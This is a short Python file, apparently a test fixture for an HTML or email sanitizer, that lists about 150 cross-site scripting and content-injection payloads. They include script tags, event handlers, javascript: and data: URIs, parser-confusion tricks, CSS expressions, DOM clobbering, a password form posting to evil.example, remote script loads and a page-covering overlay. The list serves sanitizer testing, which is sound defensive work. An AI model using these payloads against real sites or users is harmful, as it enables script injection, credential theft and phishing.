"""Ways to have a page run something, load something or lie, as mail may bring them."""

_SCRIPTS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">alert(1);</script>
<script\x0c>alert(1)</script>
<<SCRIPT>alert(1);//<</SCRIPT>
<script>alert(1)//
<script src="data:text/javascript,alert(1)"></script>
<script/xss src=//evil.example/x></script>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><img src onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<IMG SRC="javascript:alert(1);">
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=`javascript:alert(1)`>
<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>">
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC="jav&#x0A;ascript:alert(1);">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG SRC=" &#14;  javascript:alert(1);">
<img src="/" =_=" title="onerror='alert(1)'">
<img/src="x"/onerror="alert(1)">
<img src=x:x onerror=&#97;lert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src onerror /" '"= alt=alert(1)//">
<img srcset="x" onerror=alert(1)>
<image src=x onerror=alert(1)>
<img src=1 oNeRrOr=alert(1)>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,<script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#x6a;avascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="\u2028javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="filesystem:https://evil.example/x">x</a>
<a href="//evil.example" onclick=alert(1)>x</a>
<a href=x onmouseover="alert(1)">x</a>
<a href="https://x.example" ping="https://evil.example">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=//evil.example></iframe>
<iframe onload=alert(1)>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="//evil.example"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg onload=alert(1)>">
<applet code="x.class"></applet>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<base href="javascript:alert(1)//">
<base href="https://evil.example/"><a href="/x">x</a>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="javascript:alert(1)">
<link rel="import" href="//evil.example">
<link rel="prefetch" href="//evil.example">
<style>@import '//evil.example/x.css';</style>
<style>body{background:url(javascript:alert(1))}</style>
<style><!--</style><script>alert(1)//--></script>
<style></style/><img src=x onerror=alert(1)></style>
<div style="background-image:url(//evil.example/x)">x</div>
<div style="background:url('javascript:alert(1)')">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="width:e\\78pression(alert(1))">x</div>
<div style="behavior:url(#x)">x</div>
<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>
<div style="list-style-image:url(//evil.example)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">a false page</div>
<div style="background:u\\72l(//evil.example/x)">x</div>
<div style='color:red;}</style><script>alert(1)</script>'>x</div>
<div onclick=alert(1)>x</div>
<div onpointerenter=alert(1)>x</div>
<div/onmouseover='alert(1)'>x</div>
<div id=x tabindex=1 onfocus=alert(1)></div>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form action="https://evil.example"><input name=password></form>
<isindex action="javascript:alert(1)" type=image>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)>
<video poster="javascript:alert(1)"></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<layer src="//evil.example/x.js"></layer>
<table background="javascript:alert(1)"><td>x</table>
<td background="//evil.example/x">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<plaintext><script>alert(1)</script>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><script>alert(1)</script> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<%<script>alert(1)</script>
</p><script>alert(1)</script>
"><script>alert(1)</script>
'"--></style></script><script>alert(1)</script>
<p id="x" name="cookie"><form id=document><input name=cookie></form>
<img name=getElementById><img name=currentScript src=x>
<custom-element onclick=alert(1)>x</custom-element>
<p onclick\x00=alert(1)>x</p>
<p/\x00onclick=alert(1)>x</p>
<div style="background-color:red;background:image-set('//evil.example/x' 1x)">x</div>
<dialog open onclose=alert(1)>x</dialog>
<portal src="javascript:alert(1)"></portal>
<p slot=x is=y nonce=z contenteditable onbeforeinput=alert(1)>x</p>
<svg><set attributeName=href to=javascript:alert(1)><a id=x>x</a></svg>
<a target=_blank rel=opener href=javascript:alert(1)>x</a>
"""
XSS = [line for line in _SCRIPTS.splitlines() if line]
